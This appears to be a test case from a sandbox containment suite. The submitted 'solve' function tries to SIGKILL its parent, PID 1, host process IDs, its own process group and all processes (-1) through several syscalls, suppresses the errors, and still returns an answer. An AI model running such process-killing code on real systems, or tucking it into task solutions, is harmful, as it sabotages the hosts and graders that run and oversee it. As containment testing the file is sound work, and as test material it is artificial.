# attack: kill the parent, the first process, a process of the host, the own group, and everything (-1)
# contained-at: namespaces restricted
# expect: deserved-or-not-ok
import os
import signal

from kit import *


def solve(instance):
    me = os.getpid()
    for pid in (os.getppid(), 1, int(host.SENTINEL_PID), *map(int, host.PIDS)):
        for send in (lambda p: os.kill(p, signal.SIGKILL), lambda p: os.killpg(os.getpgid(p), signal.SIGKILL),
                     lambda p: signal.pidfd_send_signal(os.pidfd_open(p), signal.SIGKILL),
                     lambda p: report("tgkill", p) if syscall(number(234, 131), p, p, 9) == 0 else None,
                     lambda p: report("rt_sigqueueinfo", p) if queue(p) == 0 else None):
            with quietly():
                if pid != me:
                    send(pid)
    if me != 1:
        with quietly():
            os.kill(-1, signal.SIGKILL)
    return answer(instance)


def report(call, pid):
    # The first process of a PID namespace is deaf to what it did not ask for.
    if host.LEVEL != "namespaces" or pid not in (1, os.getppid()):
        got(f"{call} of {pid}")


def queue(pid):
    info = (ctypes.c_int * 32)(9, 0, -1)
    return syscall(number(129, 138), pid, 9, ctypes.byref(info))
